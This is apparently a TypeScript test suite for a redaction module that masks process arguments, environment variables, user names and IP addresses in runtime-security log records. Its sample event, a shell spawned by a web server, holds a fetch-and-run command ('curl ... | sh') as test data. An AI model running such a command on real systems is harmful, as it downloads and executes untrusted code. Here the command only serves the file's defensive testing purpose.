import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findUnredacted } from './find-unredacted';
import { LosslessNumber, parseLossless, stringifyLossless } from './lossless-json';
import { createRedactor, redactValue } from './redact';
import { REDACTED, REDACTION_CATEGORIES } from './redaction-rules';

const ALL = REDACTION_CATEGORIES;
const R = REDACTED;

function execBody(): Record<string, unknown> {
  return {
    agent: { rule_id: 'shell_exec' },
    title: 'Shell started by a web server',
    evt: { name: 'exec', category: 'Process Activity', outcome: 'Success' },
    date: '2024-05-01T10:00:00.000Z',
    usr: { id: 'alice', group: 'staff' },
    process: {
      pid: 4121,
      uid: 1000,
      user: 'alice',
      group: 'staff',
      comm: 'bash',
      argv0: 'bash',
      args: ['-c', 'curl http://10.0.0.7/x | sh'],
      envs: ['HOME=/home/alice', 'TOKEN=s3cr3t', 'EMPTY=', 'NOVALUE'],
      credentials: { uid: 1000, user: 'alice', euser: 'root', fsuser: 'alice', egroup: 'root' },
      executable: { path: '/usr/bin/bash', user: 'root', group: 'root' },
      parent: { pid: 4100, args: ['nginx: worker'], user: 'www-data' },
      ancestors: [
        { pid: 4100, args: ['nginx: worker'], envs: ['PORT=80'] },
        { pid: 1, argv0: 'systemd', credentials: { group: 'root' } },
      ],
    },
    network: { source: { ip: '192.168.1.20', port: 51514 }, destination: { ip: '2001:db8::7' } },
  };
}

describe('redactValue', () => {
  it('hides every category, keeping names, numbers and structure', () => {
    const { value, manifest } = redactValue(execBody(), ALL);
    expect(value).toEqual({
      ...execBody(),
      usr: { id: R, group: R },
      process: {
        pid: 4121,
        uid: 1000,
        user: R,
        group: R,
        comm: 'bash',
        argv0: R,
        args: [R, R],
        envs: [`HOME=${R}`, `TOKEN=${R}`, 'EMPTY=', R],
        credentials: { uid: 1000, user: R, euser: R, fsuser: R, egroup: R },
        executable: { path: '/usr/bin/bash', user: R, group: R },
        parent: { pid: 4100, args: [R], user: R },
        ancestors: [
          { pid: 4100, args: [R], envs: [`PORT=${R}`] },
          { pid: 1, argv0: R, credentials: { group: R } },
        ],
      },
      network: { source: { ip: R, port: 51514 }, destination: { ip: R } },
    });
    expect(manifest.args).toEqual({
      count: 6,
      paths: [
        'process.argv0',
        'process.args',
        'process.parent.args',
        'process.ancestors.args',
        'process.ancestors.argv0',
      ],
    });
    expect(manifest.envs).toEqual({ count: 4, paths: ['process.envs', 'process.ancestors.envs'] });
    expect(manifest.users.count).toBe(12);
    expect(manifest.users.paths).toContain('usr.id');
    expect(manifest.users.paths).toContain('process.ancestors.credentials.group');
    expect(manifest.ips).toEqual({
      count: 2,
      paths: ['network.source.ip', 'network.destination.ip'],
    });
    expect(findUnredacted(value, ALL)).toEqual([]);
  });

  it('redacts only the categories asked for; ips also reach inside other strings', () => {
    const { value, manifest } = redactValue(execBody(), ['ips']);
    const process = (value as { process: { args: string[]; user: string } }).process;
    expect(process.args).toEqual(['-c', `curl http://${R}/x | sh`]);
    expect(process.user).toBe('alice');
    expect(manifest.ips.paths).toEqual([
      'process.args',
      'network.source.ip',
      'network.destination.ip',
    ]);
    expect(manifest.args).toEqual({ count: 0, paths: [] });
    expect(findUnredacted(value, ['ips'])).toEqual([]);
    expect(findUnredacted(value, ['args', 'users']).map((f) => f.category)).toContain('users');
  });

  it('leaves the input untouched, keeps key order and odd keys', () => {
    const input = JSON.parse('{"z":1,"__proto__":{"user":"eve"},"a":{"ip":"1.2.3.4"}}') as object;
    const before = JSON.stringify(input);
    const { value } = redactValue(input, ALL);
    expect(JSON.stringify(input)).toBe(before);
    expect(JSON.stringify(value)).toBe(`{"z":1,"__proto__":{"user":"${R}"},"a":{"ip":"${R}"}}`);
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
  });

  it('is idempotent: a second pass finds nothing to hide', () => {
    const once = redactValue(execBody(), ALL).value;
    const twice = redactValue(once, ALL);
    expect(twice.value).toEqual(once);
    for (const c of ALL) expect(twice.manifest[c].count).toBe(0);
  });

  it('accumulates a manifest over many calls', () => {
    const redactor = createRedactor(['users']);
    redactor.redact({ process: { user: 'a' } });
    redactor.redact({ process: { user: 'b' }, file: { group: 'c' } });
    expect(redactor.manifest().users).toEqual({ count: 3, paths: ['process.user', 'file.group'] });
  });

  it('survives nesting far past the validator limit', () => {
    let deep: unknown = { args: ['x'] };
    for (let i = 0; i < 100_000; i++) deep = { n: deep };
    const { manifest } = redactValue(deep, ['args']);
    expect(manifest.args.count).toBe(1);
  });

  it('keeps exact numbers', () => {
    const body = parseLossless('{"dd":{"trace_id":18446744073709551615},"process":{"user":"x"}}');
    const { value } = redactValue(body, ALL);
    expect(stringifyLossless(value)).toBe(
      `{"dd":{"trace_id":18446744073709551615},"process":{"user":"${R}"}}`,
    );
    expect((value as { dd: { trace_id: unknown } }).dd.trace_id).toBeInstanceOf(LosslessNumber);
  });
});

describe('redacting whole records', () => {
  it('reaches the body in every envelope, and the envelope strings', () => {
    const records = [
      {
        id: 'AQ',
        type: 'log',
        attributes: { attributes: execBody(), host: 'web-1', message: 'from 10.9.8.7' },
      },
      { _id: 'x', date: '2024-05-01', host: 'h', attributes: execBody(), tags: ['ip:10.1.1.1'] },
      { logs: [{ id: 'v1', content: { attributes: execBody() } }] },
      { id: 's', type: 'signal', attributes: { custom: execBody() } },
      {
        '@process.args': ['-c', 'id'],
        '@process.envs': ['A=b'],
        '@usr.id': 'bob',
        '@process.credentials.euser': 'root',
        '@network.destination.ip': '10.0.0.1',
      },
    ];
    for (const record of records) {
      const original = JSON.stringify(record);
      const { value } = redactValue(record, ALL);
      const text = JSON.stringify(value);
      for (const secret of [
        's3cr3t',
        'alice',
        'www-data',
        'curl http',
        '10.0.0.7',
        '2001:db8::7',
        'bob',
        'A=b',
      ]) {
        expect(text.includes(secret)).toBe(false);
      }
      expect(findUnredacted(value, ALL)).toEqual([]);
      expect(findUnredacted(record, ALL).length).toBeGreaterThan(0);
      expect(JSON.stringify(record)).toBe(original);
    }
  });

  it('redacts inside an intake message holding the event as JSON text', () => {
    const body = { ...execBody(), dd: { trace_id: 'TRACE' } };
    const message = JSON.stringify(body).replace('"TRACE"', '18446744073709551615');
    const record = { message, hostname: 'h', ddsource: 'runtime-security-agent', ddtags: 'a:b' };
    const { value, manifest } = redactValue(record, ALL);
    const inner = (value as { message: string }).message;
    expect(inner).toContain('"trace_id":18446744073709551615');
    expect(inner).not.toContain('alice');
    expect(JSON.parse(inner)).toEqual(
      JSON.parse(JSON.stringify(redactValue(JSON.parse(message), ALL).value)),
    );
    expect(manifest.args.paths).toContain('message.process.args');
    expect(findUnredacted(value, ALL)).toEqual([]);
    expect(findUnredacted(record, ['users']).every((f) => f.path.startsWith('message.'))).toBe(
      true,
    );
  });

  it('keeps a JSON message that holds nothing to hide as it was', () => {
    const record = { message: '{ "evt": { "name": "open" } }', service: 'x' };
    expect(redactValue(record, REDACTION_CATEGORIES).value).toEqual(record);
  });
});

describe('findUnredacted', () => {
  it('names what is left, by category and path', () => {
    const found = findUnredacted(
      { process: { args: ['ls'], envs: ['A=1', `B=${R}`], user: R }, note: 'to 10.0.0.1' },
      ALL,
    );
    expect(found).toEqual(
      expect.arrayContaining([
        { category: 'args', path: 'process.args', value: 'ls' },
        { category: 'envs', path: 'process.envs', value: 'A=1' },
        { category: 'ips', path: 'note', value: 'to 10.0.0.1' },
      ]),
    );
    expect(found).toHaveLength(3);
  });
});

describe('redaction, property', () => {
  // Bodies with secrets under every kind of sensitive key, anywhere in a random tree.
  const secret = fc.integer({ min: 0, max: 1e9 }).map((n) => `SECRET${n}Z`);
  const ip = fc.oneof(
    fc.ipV4(),
    fc.ipV6().filter((a) => a !== '::'),
  );
  const sensitive = fc.oneof(
    fc.record({ args: fc.array(secret, { minLength: 1 }) }),
    fc.record({ argv0: secret }),
    fc.record({
      envs: fc.array(
        secret.map((s) => `NAME_${s.length}=${s}`),
        { minLength: 1 },
      ),
    }),
    fc.record({ user: secret, euser: secret, fsgroup: secret }),
    fc.record({ usr: fc.record({ id: secret }) }),
    fc.record({ ip, note: fc.tuple(fc.string(), ip, fc.string()).map((p) => p.join(' ')) }),
  );
  const tree = fc.letrec((tie) => ({
    node: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      sensitive,
      fc.dictionary(fc.constantFrom('process', 'parent', 'x', '@a.b', 'ancestors'), tie('node'), {
        maxKeys: 3,
      }),
      fc.array(tie('node'), { maxLength: 3 }),
    ),
  })).node;

  it('leaves no secret readable', () => {
    fc.assert(
      fc.property(tree, (body) => {
        const { value } = redactValue(body, ALL);
        expect(findUnredacted(value, ALL)).toEqual([]);
        expect(JSON.stringify(value)).not.toMatch(/SECRET\d+Z/);
      }),
      { numRuns: 300 },
    );
  });
});
